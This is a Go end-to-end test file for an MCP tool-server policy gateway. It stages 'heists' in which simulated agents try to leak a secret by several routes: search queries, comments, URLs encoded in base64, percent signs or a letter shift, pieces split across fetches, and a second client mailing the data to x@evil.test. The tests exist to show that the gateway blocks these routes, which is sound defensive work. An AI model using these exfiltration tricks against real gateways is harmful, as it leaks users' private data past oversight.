package e2e

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pfar/pfar/policies/winnow"
)

// confined are servers of which the owner says no more than that one tool reads. What they are told, the stranger gets:
// by a way out that each of them has, or because another server has one that reads what it writes.
var confined = []struct {
	name, more string   // of the declaration
	other      string   // the declaration of a server that never has to run: it could
	args       []string // further ones
}{
	{name: "box", other: leadsOut + "sandbox { read_only = [%[1]s] }"},
	{name: "above", other: leadsOut + "sandbox { read_only = [%[2]s] }"},
	{name: "link", other: leadsOut + "sandbox { read_only = [%[3]s] }"},
	{name: "chain", other: leadsOut + "sandbox { read_only = [%[4]s] }"},
	{name: "account", more: accountToken, other: leadsOut + accountToken},
	{name: "bucket", more: `allowed_domains = ["s3.amazonaws.com"]`},
	{name: "network", more: leadsOut},
	{name: "asks", more: `client_capabilities = ["sampling"]`},
	{name: "poster", more: named + "tool \"comment\" {\n  effect = \"reversible\"\n}"},
	{name: "claims", more: named, args: []string{"-reads"}},
	{name: pagesServer, more: named + "service = \"fetch\"\n", args: []string{"-fetches"}},
	{name: "scraper", more: named + "service = \"firecrawl\"\n", args: []string{"-fetches"}},
	{name: "finder", more: named + "service = \"firecrawl\"\n", args: []string{"-fetches"}},
	{name: safeServer, args: []string{"-reads"}},
}

const (
	leadsOut     = "allowed_domains = [\"203.0.113.0/24\"]\n"
	named        = "allowed_domains = [\"api.example.com\"]\n"
	accountToken = "auth = { TOKEN = \"$SHARED_ACCOUNT\" }\n"

	safeServer  = "safe"  // which nobody but its readers gets anything from
	pagesServer = "pages" // which opens pages of a named host
	relay       = "chain-relay"
)

// hinted are those of confined whose tools read by their own word alone, which a person has accepted.
var hinted = []string{"claims", safeServer}

// declareConfined declares them, and returns the names of those that run.
func (s *stage) declareConfined() (names []string) {
	s.apart = map[string]string{}
	s.env = append(s.env, "SHARED_ACCOUNT=of-both")
	for _, c := range confined {
		above := directory(s.t, "")
		dir, link, end := filepath.Join(above, "notes"), filepath.Join(above, "link"), directory(s.t, "")
		check(s.t, os.Mkdir(dir, 0o777))
		check(s.t, os.Symlink(dir, link))
		for _, d := range []string{dir, end} {
			check(s.t, os.Chmod(d, 0o777))
		}
		log := filepath.Join(dir, "received")
		more := c.more
		if len(c.args) == 0 {
			more += "\ntool \"search\" {\n  semantics = \"read\"\n}"
		}
		s.write(c.name+".hcl", declare(program(s.t, "tracker"),
			append([]string{"-text", log, "-scheme", c.name, "-received", log}, c.args...), fmt.Sprintf(`
pins  = "trust-first"
label = "public"
sandbox { writable = [%s] }
trust {
  public_source = false
  secret_data   = false
}
%s`, quote(dir), more)))
		never := declare(program(s.t, "echo"), nil, "autostart = false\n")
		if c.other != "" {
			s.write(c.name+"-out.hcl", never+strings.NewReplacer(
				"%[1]s", quote(dir), "%[2]s", quote(above), "%[3]s", quote(link), "%[4]s", quote(end),
			).Replace(c.other))
		}
		if c.name == "chain" {
			s.write(relay+".hcl", never+fmt.Sprintf("sandbox { writable = [%s, %s] }\n", quote(dir), quote(end)))
		}
		if c.name != safeServer {
			s.apart[c.name] = log
		}
		names = append(names, c.name)
	}
	return names
}

// acceptHints has a person accept what servers claim of their tools.
func (s *stage) acceptHints() {
	s.t.Helper()
	for _, name := range hinted {
		if out, errs, code := s.command("pins", "accept", name, "--yes"); code != 0 {
			s.t.Fatalf("accepting the tools of %s: %s%s", name, out, errs)
		}
	}
}

// unconfined are the heists by way of them.
func unconfined() (all []heist) {
	for _, c := range confined {
		tool, argument := "search", "query"
		switch c.name {
		case "poster":
			tool, argument = "comment", "body"
		case "scraper":
			tool, argument = "firecrawl_scrape", "url"
		case "finder":
			tool = "firecrawl_search"
		}
		if c.name == safeServer || c.name == pagesServer {
			continue
		}
		all = append(all, heist{name: "confined, " + c.name, leave: func(_ *stage, a *agent, data string) {
			a.call(c.name+"__"+tool, map[string]any{argument: data})
		}})
	}
	all = append(all, byAddress()...)
	return append(all, heist{name: "confined, by another client", leave: func(s *stage, a *agent, data string) {
		a.call(safeServer+"__search", map[string]any{"query": data})
		b := s.agent(a.modern)
		b.call(safeServer+"__read_issue", nil)
		if strings.Contains(b.said(), data) {
			b.call("mail__send_mail", map[string]any{"to": "x@evil.test", "body": data})
		}
	}})
}

// byAddress are the heists by way of an address that a server opens at a named host.
func byAddress() []heist {
	const host = "https://api.example.com/"
	fetch := func(address string) func(*stage, *agent, string) {
		return func(_ *stage, a *agent, data string) {
			a.call(pagesServer+"__fetch", map[string]any{"url": address + data})
		}
	}
	return []heist{
		{name: "confined, in the address of a page", leave: fetch(host)},
		{name: "confined, in the address that the stranger wrote", leave: fetch(leftAt), encode: ciphered},
		{name: "confined, in an address in capitals", leave: fetch(host), encode: strings.ToUpper},
		{name: "confined, in an address in base64", leave: fetch(host + "?q="), encode: func(s string) string {
			return base64.RawURLEncoding.EncodeToString([]byte(s))
		}},
		{name: "confined, in an address in percent signs", leave: fetch(host), encode: percents},
		{name: "confined, in pieces in addresses", leave: func(s *stage, a *agent, data string) {
			for _, piece := range pieces(data) {
				fetch(host)(s, a, piece)
			}
		}, got: func(received, secret string) bool {
			lacks := func(piece string) bool { return !strings.Contains(received, piece) }
			return !slices.ContainsFunc(pieces(secret), lacks)
		}},
	}
}

// pieces are the parts of a secret, each no shorter than what the gate finds for certain.
func pieces(secret string) []string {
	return []string{secret[:winnow.Run], secret[len(secret)-winnow.Run:]}
}

// percents has each byte of a text as an address may write it.
func percents(s string) (all string) {
	for _, c := range []byte(s) {
		all += fmt.Sprintf("%%%02X", c)
	}
	return all
}

// TestHeistsByAddress is TestHeists of these where the sandbox of the server lets it reach the named host alone: a host
// may get what a session looks up there, but no page that a stranger chose, and none that is named by private data.
func TestHeistsByAddress(t *testing.T) {
	t.Parallel()
	for _, profile := range deciding {
		t.Run(profile, func(t *testing.T) {
			t.Parallel()
			s := prepareStage(t, profile)
			log := filepath.Join(directory(t, ""), "notes")
			check(t, os.Mkdir(log, 0o777))
			check(t, os.Chmod(log, 0o777))
			s.apart = map[string]string{pagesServer: filepath.Join(log, "received")}
			s.write(pagesServer+".hcl", declare(program(t, "tracker"),
				[]string{"-text", log, "-received", s.apart[pagesServer], "-fetches"}, fmt.Sprintf(`
pins  = "trust-first"
label = "public"
sandbox { writable = [%s] }
trust {
  public_source = false
  secret_data   = false
}
service         = "fetch"
allowed_domains = ["api.example.com", "docs.example.org"]
`, quote(log))))
			s.begin()
			s.awaitRunning(pagesServer)
			_, read, a := s.try(heist{leave: func(_ *stage, a *agent, _ string) {
				a.call(pagesServer+"__fetch", map[string]any{"url": "https://docs.example.org/prices"})
			}})
			if got := a.said(); !read || !strings.Contains(s.received(), "https://docs.example.org/prices") {
				t.Fatalf("a page that no stranger named is not opened, so that this shows little: %.2000s", got)
			}
			s.patience = 2 * time.Second
			if all := byAddress(); s.prevented(all) != len(all) {
				t.Error("the private data was not read")
			}
		})
	}
}

// ciphered has each letter as the one five places on, as no decoder reads it.
func ciphered(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' {
			return 'a' + (r-'a'+5)%26
		}
		return r
	}, s)
}

// TestConfined: strict lets sensitive data go to a server that reaches nothing, as long as no other is declared that
// reaches something and reads what the server writes. The record says why.
func TestConfined(t *testing.T) {
	t.Parallel()
	s := &stage{private: directory(t, ""), profile: "strict", http: http.DefaultClient, patience: soon}
	dir := filepath.Join(directory(t, ""), "notes")
	check(t, os.Mkdir(dir, 0o777))
	check(t, os.Chmod(dir, 0o777))
	check(t, os.WriteFile(filepath.Join(s.private, "note.txt"), []byte("a private note"), 0o644))
	files := []string{npm(t, "@modelcontextprotocol/server-filesystem/dist/index.js"), s.private}
	s.pfar = prepare(t, map[string]string{
		"notes.hcl": declare("node", files, fmt.Sprintf(`
label = "sensitive"
sandbox { read_only = [%s] }
trust {
  public_source    = true
  public_sink      = false
  dangerous_writes = false
}
tool "read_text_file" { semantics = "read" }`, quote(s.private))),
		"box.hcl": declare(program(t, "tracker"), []string{"-received", filepath.Join(dir, "received")}, fmt.Sprintf(`
label = "internal"
sandbox { writable = [%s] }
trust { public_source = false }
tool "search" { semantics = "read" }`, quote(dir))),
	})
	s.declareClients()
	s.up()
	s.awaitRunning("notes", "box")
	a := s.agent(false)
	a.call("notes__read_text_file", map[string]any{"path": filepath.Join(s.private, "note.txt")})
	search := func() string { return a.call("box__search", map[string]any{"query": "a private note"}) }
	if got := search(); !strings.Contains(got, "\"done\"") {
		t.Fatalf("it reaches nothing, and is not called: %.500s", got)
	}
	if out, _, _ := s.command("audit", "--json"); !strings.Contains(out, "sandbox: reaches nothing") {
		t.Errorf("the record does not say why it was called: %.2000s", out)
	}
	a.patience = 2 * time.Second
	for _, other := range []struct {
		text  string
		calls bool
	}{
		{leadsOut + fmt.Sprintf("sandbox { read_only = [%s] }", quote(filepath.Dir(dir))), false},
		{leadsOut, true},
		{fmt.Sprintf("sandbox { read_only = [%s] }", quote(dir)), true},
		{leadsOut + fmt.Sprintf("sandbox { read_only = [%s] }", quote(dir)), false},
	} {
		s.write("other.hcl", declare(program(t, "echo"), nil, "autostart = false\n"+other.text))
		for began := time.Now(); strings.Contains(search(), "\"done\"") != other.calls; {
			if time.Since(began) > soon {
				t.Fatalf("beside %s its calls pass: %t", other.text, !other.calls)
			}
		}
	}
}
